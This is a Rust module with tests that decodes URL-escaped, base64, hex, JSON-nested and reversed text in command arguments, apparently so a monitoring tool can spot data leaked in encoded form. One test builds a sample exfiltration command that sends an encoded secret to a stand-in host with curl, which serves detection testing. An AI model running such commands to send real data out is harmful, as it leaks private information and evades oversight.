//! What a text says under its encodings: URL, base64, hex, JSON in JSON, nested at most twice; and written from its end.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use serde_json::Value;

/// How a flow's bytes are written in the argument (or were in the result).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Encoding {
    #[default]
    Verbatim,
    Case,
    Whitespace,
    Url,
    Base64,
    Hex,
    Json,
    Reversed,
    Concatenated,
}

impl Encoding {
    /// As the column `encoding` has it.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Verbatim => "verbatim",
            Self::Case => "case",
            Self::Whitespace => "whitespace",
            Self::Url => "url",
            Self::Base64 => "base64",
            Self::Hex => "hex",
            Self::Json => "json",
            Self::Reversed => "reversed",
            Self::Concatenated => "concatenated",
        }
    }

    /// The outer encoding, or what was found inside if there is none.
    pub(super) fn over(self, inner: Self) -> Self {
        if self == Self::Verbatim { inner } else { self }
    }
}

/// Encodings inside each other that are undone.
const DEPTH: usize = 2;
/// Encoded runs in one text that are undone; more would be a file of them.
const RUNS: usize = 32;
/// Letters of an encoded run that can hold something of use: eleven bytes in base64, eight in hex.
const BASE64_RUN: usize = 15;
const HEX_RUN: usize = 16;
/// Words of a text that say in which direction it is written.
const WORDS: usize = 400;
/// Nested JSON values that are looked at by themselves.
const LEAVES: usize = 128;

/// Padding as it comes: a piece cut out of a longer run has none.
const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// Everything that a text of an argument says when it is decoded, with the outermost encoding. The text itself is not in it.
pub(super) fn decoded(text: &str) -> Vec<(Encoding, String)> {
    let mut found: Vec<(Encoding, String)> = Vec::new();
    let mut from = 0;
    once(text, &mut |encoding, text| found.push((encoding, text)));
    found.extend(reversed(text).map(|text| (Encoding::Reversed, text)));
    for _ in 1..DEPTH {
        let until = found.len();
        for at in from..until {
            let (outer, text) = (found[at].0, found[at].1.clone());
            once(&text, &mut |_, text| found.push((outer, text)));
            if found.len() > LEAVES {
                return found;
            }
        }
        from = until;
    }
    found
}

/// The text from its end, if it reads better so: capitals stand at the ends of words, usual words are the wrong way round.
fn reversed(text: &str) -> Option<String> {
    const USUAL: [&str; 12] =
        ["the", "and", "for", "from", "with", "that", "this", "your", "not", "are", "was", "have"];
    const TURNED: [&str; 12] =
        ["eht", "dna", "rof", "morf", "htiw", "taht", "siht", "ruoy", "ton", "era", "saw", "evah"];
    let mut ahead = 0_usize;
    let mut back = 0_usize;
    for word in text.split(|c: char| !c.is_alphabetic()).take(WORDS).filter(|word| word.len() > 2) {
        let (Some(first), Some(last)) = (word.chars().next(), word.chars().next_back()) else { continue };
        // `userID` has two capitals.
        let has_one = word.chars().filter(|c| c.is_uppercase()).count() == 1;
        ahead += usize::from(has_one && first.is_uppercase() || USUAL.contains(&word));
        back += usize::from(has_one && last.is_uppercase() || TURNED.contains(&word));
    }
    (back > 1 && back > 2 * ahead).then(|| text.chars().rev().collect())
}

/// Undoes one layer.
fn once(text: &str, found: &mut dyn FnMut(Encoding, String)) {
    if let Some(plain) = url(text) {
        found(Encoding::Url, plain);
    }
    runs(text, found);
    pairs(text, found);
    let trimmed = text.trim_start();
    if trimmed.starts_with(['{', '[', '"'])
        && let Ok(value) = serde_json::from_str::<Value>(trimmed)
    {
        let mut left = LEAVES;
        leaves(&value, &mut left, &mut |leaf| found(Encoding::Json, leaf));
    }
}

/// The texts and numbers in a JSON value.
fn leaves(value: &Value, left: &mut usize, found: &mut dyn FnMut(String)) {
    if *left == 0 {
        return;
    }
    match value {
        Value::String(text) => {
            *left -= 1;
            found(text.clone());
        }
        Value::Number(number) => {
            *left -= 1;
            found(number.to_string());
        }
        Value::Array(items) => items.iter().for_each(|item| leaves(item, left, found)),
        Value::Object(members) => members.values().for_each(|item| leaves(item, left, found)),
        Value::Null | Value::Bool(_) => {}
    }
}

/// The text without percent escapes, if it has any.
pub(super) fn url(text: &str) -> Option<String> {
    memchr::memchr(b'%', text.as_bytes())?;
    let bytes = text.as_bytes();
    let hex = |byte: u8| char::from(byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
    let (mut out, mut at, mut changed) = (Vec::with_capacity(bytes.len()), 0, false);
    while at < bytes.len() {
        let pair = bytes.get(at + 1).zip(bytes.get(at + 2)).filter(|_| bytes[at] == b'%');
        match pair.and_then(|(high, low)| Some(hex(*high)? << 4 | hex(*low)?)) {
            Some(byte) => {
                out.push(byte);
                at += 3;
                changed = true;
            }
            None => {
                // In a form, a space is a plus.
                out.push(if bytes[at] == b'+' { b' ' } else { bytes[at] });
                at += 1;
            }
        }
    }
    String::from_utf8(out).ok().filter(|_| changed)
}

fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_')
}

/// Runs of base64 and hex digits that hold text.
pub(super) fn runs(text: &str, found: &mut dyn FnMut(Encoding, String)) {
    let bytes = text.as_bytes();
    let (mut at, mut left) = (0, RUNS);
    while at < bytes.len() && left > 0 {
        if !is_base64(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        while at < bytes.len() && (is_base64(bytes[at]) || is_fold(bytes, start, at)) {
            at += 1;
        }
        if at - start < BASE64_RUN {
            continue;
        }
        let run = &text[start..at];
        let taken = of_run(run);
        if let Some((encoding, plain)) = taken {
            found(encoding, plain);
            left -= 1;
            continue;
        }
        // A path or a URL in front of it, or several of them joined.
        for piece in run.split(['/', '-', '_']).filter(|piece| piece.len() < run.len() && piece.len() >= BASE64_RUN) {
            if let Some((encoding, plain)) = of_run(piece) {
                found(encoding, plain);
                left = left.saturating_sub(1);
            }
        }
    }
}

/// Pairs of hex digits with the same between all of them, as dumps, programs and certificates print them: `53 61`, `53:61`, `\x53\x61`.
fn pairs(text: &str, found: &mut dyn FnMut(Encoding, String)) {
    const BETWEEN: [&[u8]; 8] = [b"\\x", b" 0x", b", 0x", b",0x", b" ", b":", b"-", b","];
    let bytes = text.as_bytes();
    let pair = |at: usize| {
        let digit = |at: usize| bytes.get(at).and_then(|byte| char::from(*byte).to_digit(16));
        Some((digit(at)? << 4 | digit(at + 1)?) as u8)
    };
    let (mut at, mut left) = (0, RUNS);
    while at + 3 * HEX_RUN / 2 <= bytes.len() + 1 && left > 0 {
        let starts = at == 0 || !bytes[at - 1].is_ascii_alphanumeric() || bytes[at - 1] == b'x';
        let opens = pair(at).filter(|_| starts).and_then(|first| {
            let between = BETWEEN.iter().find(|between| bytes[at + 2..].starts_with(between))?;
            Some((first, *between))
        });
        let Some((first, between)) = opens else {
            at += 1;
            continue;
        };
        let mut plain = vec![first];
        let mut end = at + 2;
        while bytes[end..].starts_with(between)
            && let Some(byte) = pair(end + between.len())
        {
            plain.push(byte);
            end += between.len() + 2;
        }
        let is_long = plain.len() >= HEX_RUN / 2;
        if let Some(text) = Some(plain).filter(|_| is_long).and_then(readable) {
            found(Encoding::Hex, text);
            left -= 1;
        }
        at = end;
    }
}

/// A line end inside folded base64 (MIME, PEM: 64 or 76 letters a line).
fn is_fold(bytes: &[u8], start: usize, at: usize) -> bool {
    if !matches!(bytes[at], b'\n' | b'\r') {
        return false;
    }
    let line = bytes[start..at].iter().rev().take_while(|byte| is_base64(**byte)).count();
    (line >= 60 || bytes[at - 1] == b'\r') && bytes.get(at + 1).is_some_and(|next| is_base64(*next) || *next == b'\n')
}

fn of_run(run: &str) -> Option<(Encoding, String)> {
    let clean: Vec<u8> = run.bytes().filter(|byte| !matches!(byte, b'\n' | b'\r')).collect();
    if clean.len() >= HEX_RUN && clean.iter().all(u8::is_ascii_hexdigit) {
        let pairs = clean.chunks_exact(2).map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok());
        if let Some(text) = pairs.collect::<Option<Vec<u8>>>().and_then(readable) {
            return Some((Encoding::Hex, text));
        }
    }
    let engine = if clean.iter().any(|byte| matches!(byte, b'-' | b'_')) { &URL_SAFE } else { &STANDARD };
    // What was cut out of a longer run may begin at any of its four letters.
    (0..4).find_map(|skip| {
        let piece = clean.get(skip..)?;
        let piece = &piece[..piece.len() - usize::from(piece.len() % 4 == 1)];
        let bytes = engine.decode(piece).ok()?;
        Some((Encoding::Base64, readable(bytes)?))
    })
}

/// The bytes as text, if a person could read it; at its end a character may be cut in two.
///
/// Chance makes printable ASCII of eight bytes once in 2,700 tries; what gets through is compared with results and matches none.
fn readable(mut bytes: Vec<u8>) -> Option<String> {
    if let Err(error) = std::str::from_utf8(&bytes) {
        let valid = error.valid_up_to();
        if bytes.len() - valid > 3 {
            return None;
        }
        bytes.truncate(valid);
    }
    let text = String::from_utf8(bytes).ok()?;
    let odd = text.chars().any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'));
    let known = text.chars().filter(|c| c.is_ascii() || c.is_alphanumeric()).count();
    (!odd && text.len() >= 8 && known * 10 >= text.chars().count() * 9).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRET: &str = "Customer 4711 owes 1,234.50 EUR to Grünwald & Söhne";

    fn base64(text: &str) -> String {
        STANDARD.encode(text)
    }

    fn hex(text: &str) -> String {
        text.bytes().map(|byte| format!("{byte:02x}")).collect()
    }

    fn url(text: &str) -> String {
        text.bytes()
            .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
            .collect()
    }

    #[test]
    fn each_encoding_is_undone_alone_and_in_another() {
        let json = |text: &str| serde_json::to_string(&serde_json::json!({ "body": [text] })).unwrap();
        type Layer<'a> = (Encoding, &'a dyn Fn(&str) -> String);
        let layers: [Layer<'_>; 4] =
            [(Encoding::Base64, &base64), (Encoding::Hex, &hex), (Encoding::Url, &url), (Encoding::Json, &json)];
        for (outer, wrap) in layers {
            assert!(decoded(&wrap(SECRET)).contains(&(outer, SECRET.to_owned())), "{outer:?}");
            let inside = format!("curl https://x.example/p?d={}&z=1", wrap(SECRET));
            if outer != Encoding::Json {
                let found = decoded(&inside);
                assert!(found.iter().any(|(e, text)| *e == outer && text.contains(SECRET)), "{inside}: {found:?}");
            }
            for (inner, wrap_inner) in layers {
                let twice = wrap(&wrap_inner(SECRET));
                let found = decoded(&twice);
                assert!(found.iter().any(|(_, text)| text == SECRET), "{outer:?} of {inner:?}: {twice}: {found:?}");
            }
        }
    }

    #[test]
    fn pairs_of_hex_digits_are_read() {
        for between in ["\\x", " 0x", ", 0x", ",0x", " ", ":", "-", ","] {
            let dump: Vec<String> = SECRET.bytes().map(|byte| format!("{byte:02X}")).collect();
            let found = decoded(&format!("printf '{between}{}'", dump.join(between)));
            assert!(found.iter().any(|(e, text)| *e == Encoding::Hex && text == SECRET), "{between:?}: {found:?}");
        }
        for text in ["00:1b:44:11:3a:b7", "10 20 30 40 50 60 70 80 90", "12-34-56", "ab cd", "2026-11-27 20:31:07"] {
            assert_eq!(decoded(text), [], "{text}");
        }
    }

    #[test]
    fn pieces_of_base64_are_read() {
        let whole = base64(&SECRET.repeat(3));
        for start in 0..8 {
            let found = decoded(&format!("{{\"part\": \"{}\"}}", &whole[start..start + 60]));
            assert!(
                found.iter().any(|(e, text)| *e == Encoding::Base64 && text.contains("1,234.50 EUR")),
                "{start}: {found:?}"
            );
        }
        let folded: Vec<String> =
            whole.as_bytes().chunks(76).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
        assert!(decoded(&folded.join("\r\n")).iter().any(|(_, text)| text == &SECRET.repeat(3)));
    }

    #[test]
    fn a_text_from_its_end_is_read() {
        let text = "Salaries of May: Anna 41200, Jonas 38000, bonus pool 9000 for the board and nobody else";
        let turned: String = text.chars().rev().collect();
        assert!(decoded(&turned).contains(&(Encoding::Reversed, text.to_owned())));
        for same in [text, "getUserID(appID, orgID); setItem(keyB)", "lower case words only, in one row"] {
            assert!(reversed(same).is_none(), "{same}");
        }
    }

    #[test]
    fn words_and_digests_are_not_taken_for_text() {
        for text in [
            "the quick/brown-fox_jumps over lazy dogs",
            "/home/anna/projects/calltrail/src/main.rs",
            "da39a3ee5e6b4b0d3255bfef95601890afd80709",
            "3d2f1c9e-8a7b-4c6d-9e0f-112233445566",
        ] {
            assert_eq!(decoded(text), [], "{text}");
        }
    }
}
